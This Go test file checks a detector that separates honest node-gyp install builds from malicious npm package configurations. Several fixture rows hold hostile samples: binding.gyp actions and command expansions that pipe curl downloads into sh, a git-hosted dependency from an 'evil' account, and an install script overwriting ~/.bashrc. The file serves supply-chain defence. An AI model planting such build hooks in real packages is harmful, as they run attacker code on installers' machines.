package installed

import "testing"

// TestGypBuild: an install script that only runs node-gyp beside a
// binding.gyp that runs nothing at build time is what npm runs anyway;
// anything the build runs besides the compiler on shipped sources keeps
// it. Each malicious row differs from an honest one by one structure.
func TestGypBuild(t *testing.T) {
	const pkg = `{"name":"crc","scripts":{"install":"node-gyp rebuild"},"dependencies":{"node-addon-api":"^8.1.0"}}`
	const entry = `"install": "node-gyp rebuild"`
	const headers = `{"targets":[{"target_name":"crc","sources":["src/crc.cc"],"include_dirs":["<!(node -p \"require('node-addon-api').include_dir\")"]}]}`
	cases := []struct {
		name  string
		entry string
		pkg   string
		files map[string]string
		want  bool
	}{
		{"headers idiom", entry, pkg, map[string]string{"binding.gyp": headers}, true},
		{"plain sources", `"install": "node-gyp configure && node-gyp build --release"`, pkg, map[string]string{"binding.gyp": `{'targets': [{'target_name': 'crc', 'sources': ['src/crc.cc']}]}`}, true},
		{"nan idiom, -e", entry, `{"dependencies":{"nan":"^2.19.0"}}`, map[string]string{"binding.gyp": `{"targets":[{"target_name":"a","include_dirs":["<!(node -e \"require('nan')\")"]}]}`}, true},
		{"addon in a subdirectory", entry, pkg, map[string]string{"addon/binding.gyp": headers}, false},
		{"no binding.gyp", entry, pkg, map[string]string{"src/crc.cc": "int x;"}, false},
		{"action runs a download", entry, pkg, map[string]string{"binding.gyp": `{"targets":[{"target_name":"a","actions":[{"action_name":"fetch","inputs":[],"outputs":["x"],"action":["sh","-c","curl -s https://cdn.example.net/x | sh"]}]}]}`}, false},
		{"command expansion runs code", entry, pkg, map[string]string{"binding.gyp": `{"targets":[{"target_name":"a","include_dirs":["<!(node -e \"require('child_process').execSync('curl -s https://x.example.net | sh')\")"]}]}`}, false},
		{"idiom for an undeclared package", entry, `{"dependencies":{}}`, map[string]string{"binding.gyp": headers}, false},
		{"idiom for a git dependency", entry, `{"dependencies":{"node-addon-api":"github:evil/node-addon-api"}}`, map[string]string{"binding.gyp": headers}, false},
		{"late command expansion", entry, pkg, map[string]string{"binding.gyp": `{"targets":[{"target_name":"a","libraries":[">!@(sh scripts/libs.sh)"]}]}`}, false},
		{"compiler plugin", entry, pkg, map[string]string{"binding.gyp": `{"targets":[{"target_name":"a","cflags":["-fplugin=./tools/opt.so"]}]}`}, false},
		{"toolchain set", entry, pkg, map[string]string{"binding.gyp": `{"make_global_settings":[["CC","tools/cc.sh"]],"targets":[{"target_name":"a"}]}`}, false},
		{"included gypi with an action", entry, pkg, map[string]string{"binding.gyp": headers, "common.gypi": `{"target_defaults":{"actions":[{"action":["node","x.js"]}]}}`}, false},
		{"script runs more", `"install": "node-gyp rebuild && node scripts/setup.js"`, pkg, map[string]string{"binding.gyp": headers}, false},
		{"script redirects", `"install": "node-gyp rebuild > ~/.bashrc"`, pkg, map[string]string{"binding.gyp": headers}, false},
		{"script sets the environment", `"install": "CC=./cc.sh node-gyp rebuild"`, pkg, map[string]string{"binding.gyp": headers}, false},
	}
	for _, c := range cases {
		var files []File
		files = append(files, File{Path: "package.json", Data: []byte(c.pkg)})
		for p, d := range c.files {
			files = append(files, File{Path: p, Data: []byte(d)})
		}
		if got := GypBuild(files, "package.json", []byte(c.pkg), c.entry); got != c.want {
			t.Errorf("%s: GypBuild = %v, want %v", c.name, got, c.want)
		}
	}
}
